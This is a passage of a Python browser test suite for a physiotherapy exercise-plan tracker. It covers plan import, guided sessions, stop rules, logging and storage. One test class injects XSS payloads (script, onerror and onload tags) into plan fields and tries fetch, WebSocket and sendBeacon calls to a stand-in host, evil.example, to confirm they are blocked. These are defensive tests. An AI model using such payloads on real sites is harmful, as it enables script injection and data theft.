#!/usr/bin/env python3
"""The tracker in a real Chromium, from composing a plan to reviewing what was logged: suite.py THEREX [NAMES…]"""
import copy
import json
import pathlib
import re
import sys
import tempfile
import time
import unittest

import harness
from harness import ROOT, WORK, Tracker, exported, fragment, page, therex

DAY = "2026-11-25T09:00:00"
FLAGSHIP = "low-back-with-leg-pain"


def english(name, form="json", language="en"):
    """An example as its patient would get it in English, or in another language."""
    path = WORK / f"{name}.plan"
    path.write_text(re.sub(r"(?m)^language: .*$", f"language: {language}", (ROOT / f"Examples/{name}.plan").read_text(encoding="utf-8")), encoding="utf-8")
    return exported(path, form)


def loose(text):
    """A plan that a test may change: without digests it is not checked."""
    plan = json.loads(text)
    plan.pop("digest", None)
    plan["resolved"].pop("digest", None)
    return plan


class Page(unittest.TestCase):
    width, height, options = 390, 844, {}

    def setUp(self):
        self.t = Tracker(self.width, self.height, **self.options)
        self.addCleanup(self.t.close)

    def no_errors(self):
        self.assertEqual([e for e in self.t.errors() if "vibrate" not in e], [])

    def use(self, name, plan, at=DAY, catalog=True):
        self.t.open(page(name, plan, catalog), at)


class Imports(Page):
    """A plan comes in by every way there is, and what is none is refused in a sentence."""

    def setUp(self):
        super().setUp()
        self.t.open(page("empty", catalog=True), DAY)

    def drop(self, text, name):
        self.t.js("""const d = new DataTransfer(); d.items.add(new File([arguments[0]], arguments[1]));
          document.body.dispatchEvent(new DragEvent("drop", {dataTransfer: d, bubbles: true, cancelable: true}));""", text, name)

    def paste(self, text):
        self.t.js("""const d = new DataTransfer(); d.setData("text/plain", arguments[0]);
          document.body.dispatchEvent(new ClipboardEvent("paste", {clipboardData: d, bubbles: true}));""", text)

    def test_by_picker_as_json_and_as_xml(self):
        for form in ("json", "xml"):
            path = WORK / f"picked.{form}"
            path.write_text(english(FLAGSHIP, form), encoding="utf-8")
            self.t.js("App.go('start')")
            self.t.until("return document.getElementById('file')").send_keys(str(path))
            self.t.says("Prone press-up", "0 of 3 done today", "Calm the leg pain")
        self.no_errors()

    def test_json_and_xml_are_one_plan(self):
        for name in sorted(p.stem for p in ROOT.glob("Examples/*.plan")):
            both = [self.t.later("const p = (await Open.fromPaste(arguments[0])).plan; return Digest.canonical(p)", exported(name, form)) for form in ("json", "xml")]
            self.assertFalse(both[0].startswith("error"), both[0])
            self.assertEqual(both[0], both[1], name)

    def test_by_drop_paste_and_text_field(self):
        self.drop(english(FLAGSHIP), "x.therex.json")
        self.t.says("Prone press-up")
        self.t.js("App.go('start')")
        self.paste(english("knee-surgery-gym", "xml"))
        self.t.says("A plan for somebody else?")
        self.t.tap("Open it")
        self.t.says("Wednesday", "Two legs")
        self.t.js("App.go('start')")
        self.t.tap("Paste it instead")
        self.t.js("document.getElementById('paste').value = arguments[0]", "https://clinic.example/t#plan=" + fragment(english("spinal-stenosis-with-a-chair")))
        self.t.tap("Open it")
        self.t.tap("Open it")
        self.t.says("Sitting and standing", "Walking")
        self.no_errors()

    def test_by_the_address_of_the_handouts_code(self):
        html = exported(FLAGSHIP, "html", "--qr", "https://clinic.example/t")
        # The code is drawn, not written: the same short form is made here as PlanLink makes it.
        plan = loose(english(FLAGSHIP))
        for name in ("patient", "born", "identifier"):
            plan.pop(name, None)
        for name in ("figures", "headings", "pain", "rules"):
            plan["resolved"].pop(name, None)
        plan["patientKey"] = plan["id"]
        del plan["resolved"]["exercises"], plan["resolved"]["words"]
        self.assertIn("<svg", html)
        self.t.driver.get("about:blank")
        self.t.open(WORK / "empty.html", hash="#plan=" + fragment(json.dumps(plan)))
        self.t.says("Prone press-up", "10 times · hold for 10 seconds")
        self.assertEqual(self.t.js("return location.hash"), "", "the plan does not stay in the address")
        self.assertTrue(self.t.js("return App.plan.resolved.exercises.length >= 4 && App.plan.resolved.figures.length >= 4"), "names, steps and pictures come from the page")
        # Without its stop rules it takes all of the page's.
        plan["resolved"]["stopRules"] = []
        plan["id"] = "no-stops"
        plan["patientKey"] = plan["id"]
        self.t.later("Import.from(Open.fromPaste('#plan=' + arguments[0])); return true", fragment(json.dumps(plan)))
        self.t.tap("Open it")
        self.t.until("return App.plan && App.plan.id === 'no-stops'")
        self.assertGreaterEqual(self.t.js("return Stops.all(App.plan).filter((r) => r.urgency === 'emergency now').length"), 7)
        self.no_errors()

    def test_a_page_without_stop_rules_refuses_a_code_without_them(self):
        plan = loose(english(FLAGSHIP))
        plan["resolved"] = {"catalog": "1.0", "stopRules": []}
        self.t.open(page("bare"), DAY)
        self.paste("#plan=" + fragment(json.dumps(plan)))
        self.t.says("without the signs that tell you to stop")
        self.assertIsNone(self.t.js("return App.plan"))

    def test_what_is_no_plan_is_refused_and_nothing_is_lost(self):
        self.drop(english(FLAGSHIP), "x.therex.json")
        self.t.says("Prone press-up")
        whole = english(FLAGSHIP)
        newer = re.sub(r'"format": "1\.[0-9]+"', '"format": "2.0"', whole)
        must = loose(whole)
        must["mustUnderstand"] = "irradiation"
        inside = loose(whole)
        inside["phases"][0]["extensions"] = [{"namespace": "urn:x", "name": "y", "mustUnderstand": True}]
        negative = loose(whole)
        negative["phases"][0]["blocks"][0]["prescriptions"][0]["schedule"]["days"] = {"kind": "whenTheMoonIsFull"}
        cases = [("hello", "is not an exercise plan"), ("%PDF-1.7", "is not an exercise plan"), ("<html><body>x</body></html>", "is not an exercise plan"), ('{"format": "1.2", "sessions": []}', "is a log of exercises"),
                 (whole[: len(whole) // 2], "is damaged"), (english(FLAGSHIP, "xml")[:4000], "is damaged"), (newer, "made for a newer tracker"),
                 (english(FLAGSHIP, "xml").replace("urn:therex:plan:1", "urn:therex:plan:2"), "made for a newer tracker"), (json.dumps(must), "does not understand"), (json.dumps(inside), "does not understand"),
                 (json.dumps(negative), "is damaged"), ("#plan=" + fragment(whole)[:-40], "not read whole"), ("<!DOCTYPE plan []>" + english(FLAGSHIP, "xml").split("?>", 1)[1], "is damaged")]
        for text, sentence in cases:
            self.t.js("App.go('start')")
            self.paste(text)
            self.t.says(sentence, "nothing was changed")
        self.t.js("App.go('today')")
        self.t.says("Prone press-up", "0 of 3 done today")

    def test_a_digest_that_is_wrong_is_refused_and_one_that_is_right_is_not(self):
        plan = loose(english(FLAGSHIP))
        plan.pop("digest", None)
        right = self.t.later("return await Digest.of(JSON.parse(arguments[0]), Digest.APART)", json.dumps(plan))
        self.assertRegex(right, "^sha-256:[0-9a-f]{64}$")
        plan["digest"] = right
        self.drop(json.dumps(plan), "x.therex.json")
        self.t.says("Prone press-up")
        plan["phases"][0]["blocks"][0]["prescriptions"][0]["dose"]["repetitions"] = {"low": 100, "high": 100}
        self.t.js("App.go('start')")
        self.paste(json.dumps(plan))
        self.t.says("was changed after your therapist made it")
        made = english(FLAGSHIP, "xml")
        if ' digest="sha-256:' in made:
            changed = made.replace('<repetitions low="10" high="10"/>', '<repetitions low="100" high="100"/>', 1)
            self.assertNotEqual(made, changed)
            self.t.js("App.go('start')")
            self.paste(changed)
            self.t.says("was changed after your therapist made it")
        # RFC 8785's own example of order and numbers.
        self.assertEqual(self.t.js('return Digest.canonical({"\\u20ac": 1, "\\r": 2, "1": 333333333.33333329, "\\ud83d\\ude02": 1e30, "\\u0080": [4.50, 0.002, 1e-27]})'),
                         '{"\\r":2,"1":333333333.3333333,"\x80":[4.5,0.002,1e-27],"€":1,"😂":1e+30}')

    def test_versions_replace_each_other_and_keep_the_log(self):
        plan = loose(english(FLAGSHIP))
        self.drop(json.dumps(plan), "a")
        self.t.tap("Done as written")
        newer = copy.deepcopy(plan)
        newer["version"], newer["title"] = 2, "The second version"
        self.drop(json.dumps(newer), "b")
        self.t.says("Version 2 takes the place of version 1. Your log is kept.", "1 of 3 done today")
        self.drop(json.dumps(plan), "a")
        self.t.says("You already have version 2, which is newer")
        self.assertEqual(self.t.js("return App.plan.version"), 2)
        other = copy.deepcopy(newer)
        other["phases"][0]["blocks"][0]["prescriptions"].pop()
        self.drop(json.dumps(other), "c")
        self.t.says("Two different plans")
        self.t.tap("Keep what I have")
        self.assertEqual(self.t.js("return Due.prescriptions(App.plan.phases[0]).length"), 3)
        self.assertEqual([s["version"] for s in self.t.log()["sessions"]], [1])

    def test_another_patient_is_asked_about(self):
        plan = loose(english(FLAGSHIP))
        plan["patientKey"] = "otter-17"
        self.drop(json.dumps(plan), "a")
        self.t.says("Prone press-up")
        plan.update(version=2, patientKey="heron-05")
        self.drop(json.dumps(plan), "b")
        self.t.says("A plan for somebody else?")
        self.t.tap("Cancel")
        self.assertEqual(self.t.js("return [App.plan.version, App.plan.patientKey]"), [1, "otter-17"])

    def test_a_plan_inside_the_page(self):
        self.t.open(page("inside", english("knee-surgery-gym")), "2026-11-24T10:00:00")
        self.t.says("Leg press", "Warm-up", "Two legs", "Tuesday")
        self.no_errors()

    def test_drafts_old_versions_and_programs_are_shown_and_not_run(self):
        plan = loose(english(FLAGSHIP))
        for status, sentence in (("draft", "is a draft"), ("superseded", "old version")):
            plan.update(status=status, id="x-" + status)
            self.drop(json.dumps(plan), "a")
            self.t.says(sentence, "Prone press-up")
            self.assertNotIn("Done as written", self.t.text())
            self.assertFalse(self.t.js("return Boolean(document.querySelector('button.huge'))"))


class Writer(Page):
    """The page that `therex export --to tracker` joins is the page that is tried here."""

    def setUp(self):
        super().setUp()
        if "tracker" not in therex("formats", status=None).stdout:
            self.skipTest("this therex writes no tracker")

    def test_a_patients_file_opens_with_its_plan(self):
        made = WORK / "written.tracker.html"
        therex("export", ROOT / "Examples/knee-surgery-gym.plan", "--to", "tracker", "-o", made)
        self.t.open(made, "2026-11-24T10:00:00")
        self.t.says("Two legs", "Leg press", "Tuesday")
        self.assertEqual(self.t.js("return App.plan.resolved.figures.length"), 9)
        self.no_errors()

    def test_a_programs_file_waits_for_a_plan_and_has_the_catalog(self):
        made = WORK / "program.tracker.html"
        therex("export", ROOT / "Templates/programs/low-back-at-home.plan", "--to", "tracker", "-o", made)
        self.t.open(made, DAY)
        self.t.says("Open your exercise plan")
        plan = loose(english(FLAGSHIP))
        plan["resolved"] = {"catalog": "1", "lacks": "exercises words figures stopRules", "stopRules": [r for r in plan["resolved"]["stopRules"] if r["urgency"] == "emergency now"]}
        self.t.open(made, DAY, "#plan=" + fragment(json.dumps(plan)))
        self.t.says("Prone press-up", "10 times")
        self.assertTrue(self.t.js("return App.plan.resolved.stopRules.some((r) => r.urgency === 'prompt') && App.plan.resolved.figures.length >= 4"))
        self.no_errors()


class Sessions(Page):
    """A whole session is led, measured by the clock, and kept at every set."""

    def start(self, pain=3):
        self.t.tap("Start")
        self.t.says("How much pain do you have now?")
        self.t.score(pain)

    def finish(self, worst=3, now=2, effort=4):
        self.t.says("What was the worst pain")
        self.t.score(worst)
        self.t.says("after it?")
        self.t.score(now)
        if effort is not None:
            self.t.says("How hard was it?")
            self.t.score(effort)
        self.t.says("Did you notice anything new or worse?")
        self.t.tap("No, none")
        self.t.says("Anything to tell your therapist?")
        self.t.tap("Finish")

    def holds(self, count, seconds):
        self.t.tap("Start the hold")
        for place in range(count):
            self.t.until("return Lead.record.open.mode === 'hold'")
            self.t.ahead(seconds + 0.1)
            if place + 1 < count:
                self.t.until("return Lead.record.open.mode === 'gap'")
                self.t.ahead(4.1)

    def test_holds_sides_sets_and_the_answers_are_logged(self):
        self.use("session", english(FLAGSHIP))
        self.start()
        self.t.says("Exercise 1 of 3", "10 s", "0 of 10 holds done")
        self.holds(10, 10)
        self.t.says("Sciatic nerve glide", "LEFT side")
        self.t.tap("Done")
        self.t.says("RIGHT side")
        self.t.tap("Done")
        self.t.says("Pelvic tilt", "set 1 of 2")
        self.holds(10, 5)
        self.t.says("set 2 of 2")
        self.holds(10, 5)
        self.finish()
        self.t.says("3 exercises are in your log")
        log = self.t.log()
        self.assertEqual(log["format"], "1.2")
        (session,) = log["sessions"]
        self.assertEqual(session["pain"], {"before": 3, "during": 3, "after": 2})
        self.assertEqual((session["effort"], session["symptoms"]), ({"rpe": 4}, []))
        self.assertEqual(session["at"][:10], "2026-11-25")
        self.assertEqual([(e["prescription"], e["sets"], e["completed"]) for e in session["done"]], [
            ("prone-press-up", [{"repetitions": 10, "hold": 10}], True),
            ("sciatic-nerve-glide", [{"repetitions": 10, "side": "left"}, {"repetitions": 10, "side": "right"}], True),
            ("pelvic-tilt", [{"repetitions": 10, "hold": 5}, {"repetitions": 10, "hold": 5}], True)])
        self.t.tap("Today")
        self.t.says("1 of 3 done today", "1 of 2 done today", "✓ Done")
        path = WORK / "session.log.json"
        path.write_text(json.dumps(log))
        therex("log", path, "-o", WORK / "session.read.json", "--force", status=None)
        therex("review", ROOT / f"Examples/{FLAGSHIP}.plan", path, "--on", "2026-11-26", status=None)
        self.no_errors()

    def test_rest_effort_weight_and_correction(self):
        self.use("gym", english("knee-surgery-gym"), "2026-11-24T10:00:00")
        self.start(1)
        self.t.says("Cycling", "8:00")
        self.t.tap("Start the clock")
        self.t.ahead(8 * 60 + 30)
        self.t.says("Enough. You may go on until 10:00")
        self.t.tap("Finish")
        self.t.says("How hard was it?")
        self.t.score(3)
        self.t.says("Leg press", "set 1 of 3", "15", "25 kg")
        self.t.tap("Done")
        self.t.says("Rest", "You did", "90")
        self.t.tap("Less: Times")
        self.t.tap("More: Weight")
        self.t.ahead(91)
        self.t.says("Ready when you are")
        self.t.tap("Next set")
        self.t.says("set 2 of 3", "10–12", "40 kg")
        self.t.tap("Done")
        self.t.tap("Next set")
        self.t.says("set 3 of 3", "times, or more", "45 kg")
        self.t.tap("Done")
        self.t.says("How many more could you have done?")
        self.t.score(3)
        self.t.says("Leg extension")
        entries = self.t.js("return Lead.record.log.done")
        self.assertEqual(entries[0]["sets"], [{"duration": 510}])
        self.assertEqual(entries[0]["effort"], {"rpe": 3})
        self.assertEqual(entries[1]["sets"], [{"repetitions": 14, "load": {"kg": 26}, "side": "both"}, {"repetitions": 10, "load": {"asPrescribed": True}, "side": "both"}, {"repetitions": 8, "load": {"asPrescribed": True}, "side": "both"}])
        self.assertEqual(entries[1]["effort"], {"rir": 3})
        self.assertNotIn("completed", entries[1], "14 of 15 is less than the plan asks for")
        self.no_errors()

    def test_a_circuit_goes_round_by_round(self):
        self.use("circuit", english("strength-from-a-program"), "2026-11-25T10:00:00")
        order = self.t.js("""const items = History.day(App.plan, Clock.day("2026-11-25")).filter((i) => i.block.kind === "circuit");
          const tasks = items.map((i) => Dose.task(App.plan, i.phase, i.block, i.prescription)); return Session.sequence(tasks).map((s) => [tasks[s.task].prescription.id, s.set, s.side]);""")
        self.assertEqual(order[:5], [["crunch", 1, None], ["dumbbell-side-bend", 1, "left"], ["dumbbell-side-bend", 1, "right"], ["squat", 1, None], ["crunch", 2, None]])
        self.assertEqual(len(order), 12)

    def test_ten_minutes_with_the_screen_locked(self):
        self.use("locked", english("spinal-stenosis-with-a-chair"))
        plan = "Dose.task(App.plan, ...(() => { const p = App.plan.phases[0]; for (const b of p.blocks) for (const x of b.prescriptions) if (x.id === ID) return [p, b, x]; })())"
        self.t.js("Lead.begin(App, [" + plan.replace("ID", "'walking'") + ", " + plan.replace("ID", "'seated-piriformis-stretch'") + "])")
        self.t.score(3)
        self.t.says("Walking", "5:00")
        self.t.tap("Start the clock")
        self.t.ahead(60)
        self.t.says("4:00")
        self.t.tap("Pause")
        self.t.hide(600)
        self.t.says("Paused", "4:00")
        self.t.tap("Go on")
        self.t.hide(600)
        self.t.says("Done")
        self.t.tap("Finish")
        self.assertEqual(self.t.js("return Lead.record.log.done[0].sets"), [{"duration": 300}], "no more than the plan's highest, however long the screen was off")
        self.t.until("return document.querySelector('.scale, .counter')")
        if self.t.js("return Boolean(document.querySelector('.scale'))"):
            self.t.tap("I would rather not say")
        self.t.says("Seated piriformis stretch", "LEFT side", "20 to 30 s")
        self.t.tap("Start the hold")
        self.t.hide(600)
        self.t.says("1 of 2 holds done")
        self.assertEqual(self.t.js("return [Lead.record.open.mode, Lead.record.open.reps, Lead.record.open.held]"), ["ready", 1, 30], "one hold, not thirty")
        self.no_errors()

    def test_the_page_dies_in_the_middle_of_a_set(self):
        profile = tempfile.mkdtemp(prefix="tracker-kept-")
        first = Tracker(profile=profile)
        place = page("killed", english(FLAGSHIP), True)
        first.open(place, DAY)
        first.tap("Start")
        first.score(3)
        self.t.close()
        first.tap("Done without the clock")
        first.says("Sciatic nerve glide", "LEFT side")
        first.tap("Done")
        first.says("RIGHT side")
        try:
            first.driver.set_page_load_timeout(3)
            first.driver.get("chrome://crash")
        except Exception:
            pass
        first.driver.quit()
        again = Tracker(profile=profile)
        try:
            again.open(place, DAY)
            again.says("You were in the middle of your exercises. What you did is saved.")
            again.tap("Go on")
            again.says("Sciatic nerve glide", "RIGHT side")
            kept = again.js("return Lead.record.log")
            self.assertEqual(kept["pain"], {"before": 3})
            self.assertEqual([e["sets"] for e in kept["done"]], [[{"repetitions": 10, "hold": 10}], [{"repetitions": 10, "side": "left"}]])
        finally:
            again.close()

    def test_done_as_written_is_one_tap_and_can_be_undone(self):
        self.use("written", english("knee-surgery-gym"), "2026-11-24T10:00:00")
        for place in range(1, 7):
            self.t.tap("Done as written")
        entries = {e["prescription"]: e for e in self.t.log()["sessions"][0]["done"]}
        self.assertEqual(entries["cycling"]["sets"], [{"duration": 480}])
        self.assertEqual(entries["leg-press"]["sets"], [{"repetitions": 15, "load": {"asPrescribed": True}, "side": "both"}, {"repetitions": 10, "load": {"asPrescribed": True}, "side": "both"}, {"repetitions": 8, "load": {"asPrescribed": True}, "side": "both"}])
        self.assertEqual(entries["leg-curl"]["sets"], [{"count": 3, "repetitions": 10, "load": {"asPrescribed": True}, "side": "both"}])
        self.assertEqual(entries["hip-abduction"]["sets"], [{"count": 2, "repetitions": 12, "load": {"asPrescribed": True}, "side": "each"}])
        self.assertEqual(entries["walking"]["sets"] if "walking" in entries else [{"distance": 400}], [{"distance": 400}])
        count = len(entries)
        self.t.tap("Undo")
        self.t.until(f"return JSON.parse(Journal.file(App.plan)).sessions[0].done.length === {count - 1}")
        self.t.says("You marked exercises as done. How did they feel?")
        self.t.tap("Answer")
        for number in (2, 3, 2, 4):
            self.t.score(number)
            time.sleep(0.1)
        self.t.tap("No, none")
        self.t.tap("Finish")
        self.t.says("Saved")
        self.assertEqual(self.t.log()["sessions"][0]["pain"], {"before": 2, "during": 3, "after": 2})

    def test_not_today_and_why(self):
        self.use("nottoday", english(FLAGSHIP))
        self.t.tap("Not today")
        self.t.tap("I am too tired")
        self.t.says("Not today: I am too tired")
        log = self.t.log()
        self.assertEqual(log["sessions"], [])
        self.assertEqual({a["name"]: a["value"] for a in log["extensions"][0]["attributes"]}["because"], "tired")
        self.t.tap("I'll do it after all")
        self.assertNotIn("extensions", self.t.log())
        self.t.tap("Not today", 1)
        self.t.tap("It hurts")
        self.t.says("Is one of these true?", "None of these")

    def test_the_next_morning_is_asked_with_how_long_a_rise_took(self):
        self.use("morning", english(FLAGSHIP))
        self.start(2)
        self.t.tap("This exercise is done as written")
        self.t.tap("This exercise is done as written")
        self.t.tap("This exercise is done as written")
        self.finish(4, 3)
        self.t.says("Saved")
        self.t.open(WORK / "morning.html", "2026-11-26T07:30:00")
        self.t.says("How is your pain this morning")
        self.t.tap("Answer")
        self.t.score(2)
        self.t.says("Your pain rose from 2 to 4")
        self.t.tap("Within half an hour")
        self.t.says("Thank you")
        session = self.t.log()["sessions"][0]
        self.assertEqual(session["pain"], {"before": 2, "during": 4, "after": 3, "nextMorning": 2, "nextMorningOn": "2026-11-26"})
        self.assertEqual(session["minutesToSettle"], 30)
        self.no_errors()


class StopRules(Page):
    """A rule that is met ends the session and says whom to call, in the plan's words."""

    def test_an_emergency_shows_its_number_first(self):
        self.use("stop", english("knee-surgery-gym"), "2026-11-24T10:00:00")
        self.t.tap("Start")
        self.t.score(1)
        self.t.tap("Stop: something is wrong")
        heads = self.t.js("return [...document.querySelectorAll('.stops h2')].map((h) => h.textContent)")
        self.assertTrue(heads[0].startswith("Emergency: call 999"), heads)
        trigger = self.t.js("return Stops.ofAll(App.plan)[0].trigger")
        self.t.js("document.querySelector('.sign').click()")
        self.t.says("Stop now", trigger)
        self.assertEqual(self.t.js("return document.querySelector('.calls a').getAttribute('href')"), "tel:999")
        session = self.t.log()["sessions"][0]
        self.assertEqual(session["stopped"], {"because": "stop rule", "rule": trigger})
        self.t.tap("End the session")
        self.t.tap("I would rather not say")
        self.t.tap("I would rather not say")
        self.t.tap("I would rather not say")
        self.t.tap("No, none")
        self.t.tap("Finish")
        self.t.js("App.go('today')")
        self.t.says("You stopped on", "I have spoken with somebody")
        self.t.tap("Start")
        self.t.says("You stopped last time")
        path = WORK / "stop.log.json"
        path.write_text(self.t.js("return Journal.file(App.plan)"))
        review = json.loads(therex("review", ROOT / "Examples/knee-surgery-gym.plan", path, "--on", "2026-11-25", "--json", status=None).stdout)
        self.assertIn("emergency now", [s["urgency"] for s in review["stops"]])

    def test_each_urgency_of_every_example_calls_somebody(self):
        for name in sorted(p.stem for p in ROOT.glob("Examples/*.plan")):
            self.use("calls", english(name), catalog=False)
            for urgency in self.t.js("return [...new Set(Stops.all(App.plan).map((r) => r.urgency))]"):
                said = self.t.js("return Stop.calls(App.plan, arguments[0]).map((e) => e.textContent).join(' ')", urgency)
                self.assertTrue(said.strip(), (name, urgency))
            file = loose(english(name))["resolved"]["stopRules"]
            shown = self.t.js("App.go('stops'); return document.querySelector('.stops').innerText.toLowerCase()")
            for rule in file:
                if "prescription" not in rule:
                    self.assertIn(re.sub(r"\s+", " ", rule["trigger"].lower()), re.sub(r"\s+", " ", shown), name)
            self.t.later("await Store.erase(); return true")

    def test_pain_above_the_plans_limit(self):
        self.use("pain", english(FLAGSHIP))
        self.t.tap("Start")
        self.t.score(6)
        self.t.says("Your pain is above your limit", "Do not exercise now")
        self.t.tap("My therapist says I may")
        self.t.tap("Stop: something is wrong")
        self.t.tap("It hurts")
        self.t.score(7)
        self.t.says("Stop now", "Pain 7 out of 10: above your limit of 5", "Riverside Physical Therapy", "+1 555 0100")
        self.assertEqual(self.t.log()["sessions"][0]["done"][0]["pain"], {"during": 7})

    def test_symptoms_that_stop(self):
        self.use("symptom", english(FLAGSHIP))
        self.t.tap("Done as written")
        self.t.tap("Answer")
        for _ in range(4):
            self.t.tap("I would rather not say")
        self.t.tap("Yes, something")
        self.t.tap("No feeling around the seat")
        self.t.tap("Next")
        self.t.tap("Finish")
        self.t.says("Stop now", "emergency")
        self.assertEqual(self.t.log()["sessions"][0]["symptoms"], [{"kind": "saddle numbness"}])


class Loop(Page):
    """Three weeks are logged and exported, and the review proposes what they deserve."""

    def test_three_weeks_of_leg_press(self):
        plan = ROOT / "Examples/loop/leg-press.plan"
        self.use("weeks", exported(plan, "json", "--language", "en"), "2026-11-23T10:00:00")
        days = self.t.js("""const out = []; for (let d = Clock.day("2026-11-23"); d < Clock.day("2026-12-14"); d++) if (Due.on(App.plan, d).length) out.push(Clock.date(d)); return out;""")
        self.assertEqual(len(days), 9)
        for day in days:
            self.t.open(WORK / "weeks.html", f"{day}T08:00:00")
            if "How is your pain this morning" in self.t.text() or "How was your pain the morning" in self.t.text():
                self.t.tap("Answer")
                self.t.score(1)
                self.t.until("return !document.querySelector('.scale')")
            self.t.js("__at(arguments[0])", f"{day}T10:00:00")
            self.t.tap("Start")
            self.t.score(2)
            self.t.tap("This exercise is done as written")
            self.t.says("How hard was it?")
            self.t.score(5)
            self.t.says("What was the worst pain")
            self.t.score(2)
            self.t.says("after it?")
            self.t.score(2)
            self.t.says("Did you notice")
            self.t.tap("No, none")
            self.t.tap("Finish")
            self.t.says("Saved")
            self.t.open(WORK / "weeks.html", (day[:8] + f"{int(day[8:]) + 1:02d}T07:30:00") if day != "2026-11-30" else "2026-12-01T07:30:00")
            self.t.says("How is your pain this morning")
            self.t.tap("Answer")
            self.t.score(1)
        log = self.t.log()
        self.assertEqual(len(log["sessions"]), 9)
        path = WORK / "weeks.log.json"
        path.write_text(json.dumps(log))
        review = json.loads(therex("review", plan, path, "--on", "2026-12-12", "--json", status=None).stdout)
        self.assertEqual(review["stops"], [])
        found = {p["id"]: p for p in review["proposals"]}
        self.assertEqual(found["strength/leg-press"]["decision"], "advance", json.dumps(found, indent=1)[:3000])

    def test_the_log_is_valid_by_its_schema(self):
        import jsonschema
        schema = json.loads(therex("schema", "log").stdout)
        found = sorted(WORK.glob("*.log.json"))
        self.assertTrue(found)
        for path in found:
            jsonschema.Draft202012Validator(schema).validate(json.loads(path.read_text()))
        self.t.close()


class Hostile(Page):
    """Nothing that a plan says becomes anything but text."""

    def setUp(self):
        self.listener = harness.Listener()
        self.addCleanup(self.listener.socket.close)
        self.options = {"arguments": [f"--host-resolver-rules=MAP evil.example 127.0.0.1:{self.listener.port}"]}
        super().setUp()

    EVIL = "<img src=x onerror=window.pwned=1><script>window.pwned=2</script><svg onload=window.pwned=3>\u202e"

    def spoil(self, value, key=""):
        if isinstance(value, dict):
            return {k: self.spoil(v, k) for k, v in value.items()}
        if isinstance(value, list):
            return [self.spoil(v, key) for v in value]
        if isinstance(value, str) and key in ("title", "patient", "clinician", "clinic", "call", "emergency", "goals", "notes", "baseline", "precautions", "weightBearing", "trigger", "action", "text", "name", "purpose", "steps", "cues", "words", "equipment", "source"):
            return value + self.EVIL
        return value

    def test_script_in_every_text(self):
        plan = self.spoil(loose(english("spinal-stenosis-with-a-chair")))
        plan["resolved"]["figures"] = [{"exercise": e["id"], "svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="top.pwned=4"><script>top.pwned=5</script><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/x" onerror="top.pwned=6"/></foreignObject><image href="https://evil.example/y"/></svg>'} for e in plan["resolved"]["exercises"]]
        self.use("hostile", json.dumps(plan), catalog=False)
        self.t.says("<img src=x onerror")
        for view in ("plan", "stops", "log", "settings", "today"):
            self.t.js("App.go(arguments[0])", view)
            self.assertEqual(self.t.js("return document.querySelectorAll('main script, main svg, main [onerror], main img:not([src^=\"data:image/svg+xml\"])').length"), 0, view)
        self.t.tap("Start")
        self.t.score(3)
        self.t.tap("Stop: something is wrong")
        self.t.js("document.querySelector('.sign').click()")
        time.sleep(0.5)
        self.assertIsNone(self.t.js("return window.pwned || null"))
        self.assertNotIn("\u202e", self.t.text())
        self.assertEqual(self.listener.visits, [])

    def test_ten_thousand_exercises_and_an_endless_text_are_refused_at_once(self):
        self.t.open(page("empty", catalog=True), DAY)
        plan = loose(english(FLAGSHIP))
        one = plan["phases"][0]["blocks"][0]["prescriptions"][0]
        many = copy.deepcopy(plan)
        many["phases"][0]["blocks"][0]["prescriptions"] = [dict(one, id=f"x{n}") for n in range(10000)]
        long = copy.deepcopy(plan)
        long["title"] = "x" * 5000000
        deep = "[" * 200000 + "]" * 200000
        for text in (json.dumps(many), json.dumps(long), '{"format":"1.0","title":"x","phases":' + deep + "}"):
            started = time.time()
            self.t.later("Import.from(Open.fromPaste(arguments[0])); return true", text)
            self.t.says("Nothing was changed")
            self.assertLess(time.time() - started, 5)
            self.t.js("document.getElementById('toast').replaceChildren()")
        bomb = fragment(" " * 50_000_000)
        self.t.later("Import.from(Open.fromPaste('#plan=' + arguments[0])); return true", bomb)
        self.t.says("far too large")

    def test_nothing_leaves_the_page(self):
        self.use("silent", english(FLAGSHIP))
        for script in ("await fetch('http://evil.example')", "await new Promise((r, e) => { const i = new Image(); i.onload = r; i.onerror = () => e('refused'); i.src = 'http://evil.example/x.png' })",
                       "new Function('return 1')()", "document.body.innerHTML = '<b>x</b>'", "const s = document.createElement('script'); s.textContent = 'window.pwned = 7'; document.body.append(s); if (!window.pwned) throw 'refused'",
                       "const s = new WebSocket('ws://evil.example'); await new Promise((r, e) => { s.onopen = r; s.onerror = () => e('refused') })"):
            self.assertTrue(str(self.t.later("await new Promise((r) => setTimeout(r, 20)); " + script + "; return 'went through'")).startswith("error"), script)
        self.t.js("navigator.sendBeacon('http://evil.example/b', 'x')")
        time.sleep(0.5)
        self.assertEqual(self.listener.visits, [])
        try:
            self.t.driver.get("http://evil.example/")
        except Exception:
            pass
        self.assertTrue(self.listener.visits, "the listener hears")


class Keeping(Page):
    """The device keeps the log, says so where it cannot, and forgets when told to."""

    def test_storage_that_is_refused(self):
        self.t.inject("indexedDB.open = () => { throw new Error('refused'); };")
        self.use("refused", english(FLAGSHIP))
        self.t.says("does not let the page keep anything", "Prone press-up")
        self.t.tap("Done as written")
        self.t.says("1 of 3 done today")
        self.assertEqual(len(self.t.log()["sessions"]), 1)

    def test_storage_that_fills_up(self):
        self.use("full", english(FLAGSHIP))
        self.t.js("IDBObjectStore.prototype.put = function () { throw new DOMException('full', 'QuotaExceededError'); };")
        self.t.tap("Done as written")
        self.t.says("does not let the page keep anything", "1 of 3 done today")

    def test_erase_everything(self):
        self.use("erase", english(FLAGSHIP))
        self.t.tap("Done as written")
        self.t.says("1 of 3 done today")
        self.t.tap("Settings")
        self.t.tap("Erase everything")
        self.t.says("It cannot be taken back")
        self.t.tap("Cancel")
        self.assertEqual(len(self.t.log()["sessions"]), 1)
        self.t.tap("Erase everything")
        self.t.js("document.querySelector('dialog .danger').click()")
        self.t.says("Open your exercise plan")
        left = self.t.later("""const base = await new Promise((r) => { const q = indexedDB.open("therex-tracker"); q.onsuccess = () => r(q.result); });
          let n = 0; for (const name of base.objectStoreNames) if (name !== "settings") n += await new Promise((r) => { const q = base.transaction(name).objectStore(name).count(); q.onsuccess = () => r(q.result); }); base.close(); return n;""")
        self.assertEqual(left, 0)

    def test_the_log_is_downloaded_and_copied(self):
        self.use("sent", english(FLAGSHIP))
        self.t.tap("Done as written")
        self.t.tap("My log")
        self.t.cdp("Browser.setDownloadBehavior", behavior="allow", downloadPath=self.t.profile)
        self.t.tap("Save as a file")
        end = time.time() + 8
